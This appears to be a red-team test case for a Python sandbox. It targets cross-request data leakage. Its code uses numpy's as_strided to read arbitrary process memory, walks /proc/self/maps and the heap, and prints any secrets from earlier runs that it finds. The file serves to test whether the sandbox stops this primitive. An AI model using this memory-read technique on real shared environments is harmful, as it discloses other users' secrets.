# category: disclosure
# attack: arbitrary memory reads with numpy's public as_strided (the primitive behind the cross-run leak): read every mapping the run can see and print any earlier request's secret found in it
# profile: data_science
# verdict: ok error killed rejected
import numpy as np

ENV = "PYWARD_REDTEAM_SECRET".encode()
MARK = b"pyward-redteam-"


BASE = np.zeros(16, np.uint8)
LO0 = np.byte_bounds(BASE)[0]


def read(addr, size):
    """SIZE bytes at ADDR: the second row of a view whose rows are
    ADDR - LO0 bytes apart."""
    view = np.lib.stride_tricks.as_strided(BASE, shape=(2, size),
                                           strides=(addr - LO0, 1))
    return view[1].tobytes()


def ranges():
    try:
        with open("/proc/self/maps") as f:
            for line in f:
                span, perms = line.split()[:2]
                lo, hi = (int(x, 16) for x in span.split("-"))
                if perms[0] == "r" and hi - lo < (1 << 28):
                    yield lo, hi
    except Exception:  # no open() in this profile: the heap and arenas
        for a in {LO0, id(ENV), id(found), id(np)}:
            yield a & ~0xFFFFF, (a & ~0xFFFFF) + (1 << 20)


found = set()
for lo, hi in list(ranges()):
    try:
        buf = read(lo, hi - lo)
    except Exception:
        continue
    at = buf.find(MARK)
    while at >= 0 and len(found) < 20:
        found.add(buf[at:at + 60].split(b"\0")[0])
        at = buf.find(MARK, at + 1)
    if buf.find(ENV + b"=") >= 0:
        found.add(b"environment entry")
print(sorted(found))
